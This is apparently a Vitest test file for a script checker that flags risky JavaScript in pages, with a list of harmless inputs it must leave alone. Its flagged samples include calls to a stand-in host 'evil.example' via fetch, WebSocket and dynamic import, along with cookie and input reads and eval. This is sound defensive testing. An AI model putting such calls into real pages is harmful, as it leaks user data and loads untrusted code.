import { expect, test } from 'vitest';
import { checkScripts } from './built/check-scripts.ts';

test.each([
  'fetch("https://evil.example")',
  'globalThis["fetch"]("/")',
  'const { fetch: f } = window; f("/")',
  'navigator.sendBeacon("/", "x")',
  'new WebSocket("wss://evil.example")',
  'new XMLHttpRequest()',
  'eval("1")',
  'new Function("1")(); Function("2")()',
  'import("https://evil.example/a.js")',
  'importScripts("a.js")',
  'a.innerHTML = b',
  'a.insertAdjacentHTML("x", b)',
  'document.write("x")',
  'x = document.cookie',
  'x = input.value; y = input.value; z = input.value',
  'const { value } = input; const { value: b } = input; const { value: c } = input',
  'x = input["value"]; y = input["value"]; z = input["value"]',
  'x = input.files',
  'element.click()',
  'localStorage.setItem("a", "b")',
  'indexedDB.open("cairn")',
])('a script in a page is told of: %s', (script) => {
  expect(checkScripts(new Map([['knowledge-base.js', script]]))).not.toEqual([]);
});

test.each([
  'const a = { value: 1, fetch: 2 }',
  'class A { get value() { return 1 } }',
  'element.textContent = "fetch"',
  'element.value = ""',
])('and not of what is harmless: %s', (script) => {
  expect(checkScripts(new Map([['knowledge-base.js', script]]))).toEqual([]);
});
